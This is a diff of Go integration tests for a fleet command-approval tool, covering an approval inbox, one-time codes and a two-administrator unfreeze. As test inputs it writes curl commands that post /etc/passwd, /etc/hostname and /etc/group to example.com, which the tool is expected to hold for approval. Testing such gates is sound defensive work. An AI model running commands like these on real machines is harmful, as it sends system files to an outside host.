@@ -3,10 +3,12 @@ package integration
 import (
 	"encoding/json"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"strconv"
 	"strings"
 	"syscall"
 	"testing"
@@ -15,11 +17,16 @@ import (
 	"github.com/tada-run/tada-run/integration/served"
 )
 
-// A whole fleet, typed as in docs/fleet.md: one machine asks, another one answers, and stops it.
-func TestFleetOfTwo(t *testing.T) {
-	t.Parallel()
+// before is the commit of the tada-fleet that is tried with the other programs of this one; "" for
+// the same: see make fleet-stress.
+var before = os.Getenv("TEST_BEFORE")
+
+// newFleet is a place with the real tada-fleet, an etcd, and a fleet that ann has founded, typed as
+// in docs/fleet.md.
+func newFleet(t *testing.T) (p *place, etcd *served.Etcd, site *exec.Cmd) {
+	t.Helper()
 	need(t, "go")
-	p := newPlace(t)
+	p = newPlace(t)
 	bin := filepath.Join(filepath.Dir(p.dir), "bin")
 	self, err := os.Executable()
 	if err != nil {
@@ -29,7 +36,8 @@ func TestFleetOfTwo(t *testing.T) {
 		t.Fatal(err)
 	}
 	build := exec.Command("go", "build", "-o", filepath.Join(bin, "tada-fleet"),
-		"../cmd/tada-fleet")
+		"./cmd/tada-fleet")
+	build.Dir = sourceOf(t, before)
 	if out, err := build.CombinedOutput(); err != nil {
 		t.Fatalf("%v: %s", err, out)
 	}
@@ -38,15 +46,22 @@ func TestFleetOfTwo(t *testing.T) {
 			p.env[i] = "CI=" + p.state
 		}
 	}
-	p.env = append(p.env, "ANN="+filepath.Join(filepath.Dir(p.dir), "ann"))
+	p.env = append(p.env, "ANN="+filepath.Join(filepath.Dir(p.dir), "ann"),
+		"BOB="+filepath.Join(filepath.Dir(p.dir), "bob"))
 
 	p.wants("person tadactl --home $ANN key init ann --no-passphrase", "ed25519 ")
 	p.wants("person tadactl --home $ANN fleet init ../acme --name acme --host 127.0.0.1",
 		`Fleet "acme"`)
-	etcd := served.StartSecureEtcd(t, 1, filepath.Join(filepath.Dir(p.dir), "acme"))
-	site := freePort(t)
-	p.env = append(p.env, "ETCD=https://"+etcd.Endpoints()[0], "SITE="+site)
-	p.daemon("tadactl fleet serve ../acme --etcd $ETCD --listen $SITE", "listens on")
+	etcd = served.StartSecureEtcd(t, 1, filepath.Join(filepath.Dir(p.dir), "acme"))
+	p.env = append(p.env, "ETCD=https://"+etcd.Endpoints()[0], "SITE="+freePort(t))
+	return p, etcd, p.daemon("tadactl fleet serve ../acme --etcd $ETCD --listen $SITE",
+		"listens on")
+}
+
+// One machine asks, another one answers, and stops it.
+func TestFleetOfTwo(t *testing.T) {
+	t.Parallel()
+	p, _, _ := newFleet(t)
 	first := p.link("tadactl --home $ANN fleet invite --dir ../acme --etcd $ETCD " +
 		"--url https://$SITE --people --owner ann")
 	p.wants("tadactl --home $ANN fleet join '"+first+"' --name laptop", `is now in fleet "acme"`)
@@ -64,7 +79,10 @@ func TestFleetOfTwo(t *testing.T) {
 	p.wants("person tadactl --home $ANN fleet answer "+question, question+": approved")
 	p.wants("tadactl --home $CI pending", "answered")
 	p.wants("tadactl --home $ANN fleet list", "connected")
-
+	if before == "" { // an older program may not have these
+		p.oneInbox()
+		p.pausing()
+	}
 	p.wants("person tadactl --home $ANN fleet freeze --label env=ci --reason leak", "freeze ")
 	p.eventually("tada-run --home $CI 'echo hello'", "it is frozen")
 	p.wants("tadactl --home $CI fleet status", "frozen   by ann at")
@@ -79,6 +97,95 @@ func TestFleetOfTwo(t *testing.T) {
 	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
 		"needs approval")
 	p.wants("tadactl --home $CI audit verify --complete", "ok: ")
+}
+
+// sourceOf returns the folder of the source of a commit; of this one for "".
+func sourceOf(t *testing.T, commit string) string {
+	t.Helper()
+	if commit == "" {
+		return ".."
+	}
+	need(t, "git")
+	dir := t.TempDir()
+	cmd := exec.Command("sh", "-c", `git archive "$0" | tar -x -C "$1"`, commit, dir)
+	cmd.Dir = ".." // all of it, not this folder alone
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	return dir
+}
+
+// oneInbox answers a question of another machine in the inbox on a terminal, and one in a browser,
+// while this machine's own questions cannot be seen because its agent does not run.
+func (p *place) oneInbox() {
+	p.t.Helper()
+	const again = "tada-run --home $CI 'curl -d @/etc/passwd https://example.com/' </dev/null"
+	p.wants(again, "needs approval")
+	s, tty := p.on("tadactl --home $ANN inbox; echo left $?")
+	if err := play("< this machine: not up to date\n< on ci1 (env=ci)\n> \\r\n= type\n"+
+		"< : approved\n> q\n< left 0", s, tty); err != nil {
+		p.t.Fatal(err, s.text())
+	}
+	if out := p.run(again); strings.Contains(out, "needs approval") {
+		p.t.Fatal(out)
+	}
+	g := p.page("tadactl --home $ANN inbox --web; echo left $?")
+	p.wants("tada-run --home $CI 'curl -d @/etc/group https://example.com/' </dev/null",
+		"needs approval")
+	id, code := g.announced("")
+	_, _, list := g.send("GET", g.path, nil, nil)
+	if !strings.Contains(list, "on ci1") || !strings.Contains(list, "m/"+id) ||
+		!strings.Contains(list, "of this machine are not known now") {
+		p.t.Fatal(list)
+	}
+	form, shown := g.filled("m/"+id, code, "approve"), time.Now()
+	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status !=
+		http.StatusConflict || !strings.Contains(body, "too early") {
+		p.t.Fatal(status, body)
+	}
+	time.Sleep(time.Until(shown.Add(5 * time.Second)))
+	form.Set("code", "000000")
+	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status !=
+		http.StatusForbidden {
+		p.t.Fatal(status, body)
+	}
+	form.Set("code", code)
+	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status != http.StatusOK ||
+		!strings.Contains(body, "approved: ") {
+		p.t.Fatal(status, body)
+	}
+	if status, _, body := g.send("POST", g.path+"m/"+id, form, nil); status == http.StatusOK {
+		p.t.Fatal("answered twice:", body)
+	}
+	_, own, _ := strings.Cut(id, "/")
+	p.wants("tadactl --home $CI pending", own+"  answered")
+}
+
+// pausing freezes the machine so that its run is stopped, and has two administrators end that.
+func (p *place) pausing() {
+	p.t.Helper()
+	bob := regexp.MustCompile(`ed25519 \S+ bob\S*`).FindString(
+		p.run("person tadactl --home $BOB key init bob --no-passphrase"))
+	link := p.link("tadactl --home $ANN fleet invite --people")
+	p.wants("tadactl --home $BOB fleet join '"+link+"' --name other", "is now in fleet")
+	p.wants("person tadactl --home $ANN fleet person add '"+bob+"' --answers '*' --admin", "bob")
+	run := p.daemon("tada-run --home $CI 'while sleep 0.05; do echo step >>steps; done'", "")
+	p.eventually("cat steps", "step")
+	made := p.run("person tadactl --home $ANN fleet freeze --label env=ci --pause")
+	id := strings.TrimSuffix(strings.Fields(made)[1], ":")
+	p.eventually("tadactl --home $CI log --json", "exec.paused")
+	was := p.run("cat steps")
+	time.Sleep(500 * time.Millisecond)
+	if now := p.run("cat steps"); now != was {
+		p.t.Error("it runs on")
+	}
+	p.wants("tada-run --home $CI 'echo hello'", "it is frozen")
+	p.wants("person tadactl --home $ANN fleet unfreeze "+id, "another administrator")
+	p.wants("person tadactl --home $BOB fleet unfreeze "+id, "ended")
+	p.eventually("tadactl --home $CI log --json", "exec.continued")
+	p.eventually("[ $(cat steps | wc -c) -gt "+strconv.Itoa(len(was))+" ]", "")
+	_ = run.Process.Signal(syscall.SIGTERM)
+	_ = run.Wait()
 }
 
 // wants runs a line and fails if a text is not in what it prints.
